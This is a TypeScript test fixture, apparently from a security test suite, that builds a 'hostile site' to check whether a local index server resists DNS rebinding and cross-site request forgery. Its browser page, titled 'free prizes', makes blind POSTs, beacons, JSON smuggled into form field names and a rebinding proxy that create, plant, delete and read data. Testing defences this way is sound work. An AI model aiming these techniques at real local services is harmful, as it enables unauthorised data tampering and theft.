import { once } from 'node:events';
import { createServer, type IncomingMessage, request, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { json } from 'node:stream/consumers';

/**
 * A site that means harm. `/page?target=URL` is a page that attacks the server at `URL` and tells what it came to;
 * whatever else is asked of the site goes on to the victim as it came. To a browser that is what DNS rebinding makes of a site: one origin whose page
 * came from somebody else and whose every other answer comes from the victim, under the name of the site.
 */
export class HostileSite {
  readonly port: number;
  /** The outcome of its page's attempts. */
  readonly attempts: Promise<Attempts>;
  readonly #server: Server;

  private constructor(server: Server, attempts: Promise<Attempts>) {
    this.#server = server;
    this.port = (server.address() as AddressInfo).port;
    this.attempts = attempts;
  }

  static async open(victim: string): Promise<HostileSite> {
    const { promise: attempts, resolve } = Promise.withResolvers<Attempts>();
    const server = createServer((incoming, response) => {
      const { pathname, searchParams } = new URL(incoming.url ?? '/', 'http://site');
      if (pathname === '/report') return void json(incoming).then((noted) => resolve(noted as Attempts));
      if (pathname !== '/page') return void forward(victim, incoming, response);
      response.setHeader('content-type', 'text/html');
      response.end(attackingPage(searchParams.get('target') ?? ''));
    });
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    return new HostileSite(server, attempts);
  }

  /** The address of the page, on this site by the name `host`, that attacks `target`. */
  page(host: string, target: string): string {
    return `http://${host}:${this.port}/page?target=${encodeURIComponent(target)}`;
  }

  async close(): Promise<void> {
    this.#server.closeAllConnections();
    this.#server.close();
    await once(this.#server, 'close');
  }
}

function forward(victim: string, incoming: IncomingMessage, response: ServerResponse): void {
  const { method = 'GET', url = '/', rawHeaders } = incoming;
  const onward = request(victim, { path: url, method, headers: rawHeaders, setHost: false }, (answer) => {
    response.writeHead(answer.statusCode ?? 502, answer.rawHeaders);
    answer.pipe(response);
  });
  onward.on('error', () => response.destroy());
  incoming.pipe(onward);
}

/** The outcome of each attempt: the text that the page could read, or why it could not. */
export type Attempts = Readonly<Record<string, string>>;

/** Runs in the browser: every way in which a page can send without asking, and the ways that ask. */
async function attack(target: string): Promise<void> {
  const { document, navigator } = globalThis as any;
  const attempts: Record<string, string> = {};
  const bytes = (value: unknown) => new TextEncoder().encode(JSON.stringify(value));
  const attempt = async (name: string, work: () => Promise<unknown>) => {
    attempts[name] = await work().then(String, (error: Error) => `failed: ${error.message}`);
  };
  const send = (method: string, path: string, options: object) => async () => {
    const answer = await fetch(target + path, { method, ...options });
    return `${answer.type} ${answer.status} ${await answer.text()}`;
  };
  const blind = { mode: 'no-cors' };
  const typed = { headers: { 'content-type': 'application/json' } };
  const planted = { documents: [{ _id: 'planted', text: 'planted' }] };

  await attempt(
    'create blindly',
    send('POST', '/indexes/planted-1', { ...blind, body: bytes({ model: 'random/small' }) }),
  );
  await attempt('add blindly', send('POST', '/indexes/shop/documents', { ...blind, body: bytes(planted) }));
  await attempt(
    'delete blindly',
    send('POST', '/indexes/shop/documents/delete-batch', { ...blind, body: bytes(['kept']) }),
  );
  await attempt('delete by beacon', async () =>
    navigator.sendBeacon(`${target}/indexes/shop/documents/delete-batch`, bytes(['kept']).buffer),
  );
  for (const enctype of ['text/plain', 'multipart/form-data', 'application/x-www-form-urlencoded']) {
    await attempt(`create by a form of ${enctype}`, async () => {
      const frame = document.createElement('iframe');
      frame.name = enctype;
      document.body.append(frame);
      const form = document.createElement('form');
      Object.assign(form, { method: 'POST', action: `${target}/indexes/planted-2`, enctype, target: enctype });
      const input = document.createElement('input');
      Object.assign(input, { name: '{"model": "random/small", "x', value: '": 1}' });
      form.append(input);
      document.body.append(form);
      form.submit();
      await new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
      return frame.contentDocument?.body.textContent;
    });
  }
  await attempt('create', send('POST', '/indexes/planted-3', { ...typed, body: '{"model": "random/small"}' }));
  await attempt('drop', send('DELETE', '/indexes/shop', {}));
  await attempt('read', send('GET', '/indexes/shop/documents/kept', {}));
  await attempt('read blindly', send('GET', '/indexes/shop/documents/kept', blind));
  await attempt('read by a frame', async () => {
    const frame = document.createElement('iframe');
    frame.src = `${target}/indexes/shop/documents/kept`;
    document.body.append(frame);
    await new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
    return frame.contentDocument?.body.textContent;
  });

  // A beacon has no answer that could be waited for.
  await new Promise((resolve) => setTimeout(resolve, 500));
  await fetch('/report', { method: 'POST', body: JSON.stringify(attempts) });
}

function attackingPage(target: string): string {
  return `<!DOCTYPE html><title>free prizes</title><body><script>(${attack})(${JSON.stringify(target)});</script>`;
}
